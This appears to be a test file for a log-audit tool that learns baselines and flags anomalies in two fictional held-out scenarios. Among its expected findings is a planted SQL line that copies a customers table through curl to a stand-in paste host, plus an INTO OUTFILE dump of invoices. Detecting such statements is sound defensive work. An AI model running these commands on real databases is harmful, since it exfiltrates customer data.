/**
 * Held-out scenarios: built the way the examples are, but with other seeds, names, dates, volume
 * and address plans. learn on the history + audit of the last day must report every planted
 * anomaly and nothing else.
 */
import { mkdir, writeFile } from 'node:fs/promises';
import { dirname, join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { buildScenario, DEFAULT_OPTIONS, type PlantedFinding, type ScenarioOptions } from '../examples/scenario.js';
import { runMain } from './support/cli.js';
import { withTempDir } from './support/fixtures.js';

const HELD_OUT: [string, ScenarioOptions][] = [
  [
    'globex, 3 days of history, plain files',
    {
      seed: 777,
      start: new Date('2025-06-01T00:00:00Z'),
      historyDays: 3,
      perHour: 10,
      gzipOldHistory: false,
      names: { project: 'globex-data', domain: 'globex.example', reportsBucket: 'gx-ledgers', datasetsBucket: 'gx-training', pgInstance: 'crm-postgres', mysqlInstance: 'legacy-mysql', cluster: 'gx-prod', net: 96 },
    },
  ],
  [
    'initech, 6 days of history, busier, gzipped',
    {
      seed: 4242,
      start: new Date('2026-02-20T00:00:00Z'),
      historyDays: 6,
      perHour: 20,
      gzipOldHistory: true,
      names: { project: 'initech-prod', domain: 'initech.example', reportsBucket: 'initech-tps-reports', datasetsBucket: 'initech-exports', pgInstance: 'tps-db', mysqlInstance: 'payroll', cluster: 'core', net: 16 },
    },
  ],
];

describe.each(HELD_OUT)('held-out scenario: %s', (_name, options) => {
  it('reports every planted anomaly and nothing else', async () => {
    expect(options.seed).not.toBe(DEFAULT_OPTIONS.seed);
    await withTempDir(async (dir) => {
      const { files, planted } = buildScenario(options);
      for (const file of files) {
        const path = join(dir, file.path);
        await mkdir(dirname(path), { recursive: true });
        await writeFile(path, file.content);
      }
      const learned = await runMain(['learn', '--quiet', '--out', join(dir, 'baselines'), join(dir, 'history')]);
      expect(learned.status, learned.stderr).toBe(0);
      const audited = await runMain(['audit', '--quiet', '--format', 'json', '--baselines', join(dir, 'baselines'), join(dir, 'today')]);
      expect(audited.status, audited.stderr).toBe(0);
      const { findings, summary } = JSON.parse(audited.stdout);
      const key = (f: Pick<PlantedFinding, 'kind' | 'type' | 'target' | 'source' | 'credential'>) => [f.kind, f.type, f.target, f.source, f.credential].join(' | ');
      expect(findings.map(key).sort()).toEqual(planted.map(key).sort());
      expect(summary.bad + summary.unknown).toBe(0);
      // The fast path and the full parser agree on the whole scenario (statements and key ids included).
      const full = await runMain(['audit', '--quiet', '--format', 'json', '--full-parse', '--baselines', join(dir, 'baselines'), join(dir, 'today')]);
      expect(JSON.parse(full.stdout).findings).toEqual(findings);
      // A stolen key is named, and the statement a known user never ran is shown by its shape.
      const stolen = findings.find((f: { source: string }) => f.source === 'ip:203.0.113.201');
      expect(stolen.unknownKeys).toHaveLength(1);
      const statements = findings.filter((f: { type: string }) => f.type === 'new-statement');
      expect(statements.map((f: { statement: { shape: string } }) => f.statement.shape).sort()).toEqual(["COPY customers TO PROGRAM 'curl -sT - https://paste.example/u'", 'SELECT * FROM `invoices` INTO OUTFILE ?']);
      // Every type the issue asks for is among them.
      expect(new Set(planted.map((p) => p.type))).toEqual(new Set(['new-source', 'new-credential', 'credential-from-new-source', 'failed-auth-burst', 'new-statement', 'not-baselined']));
    });
  });
});
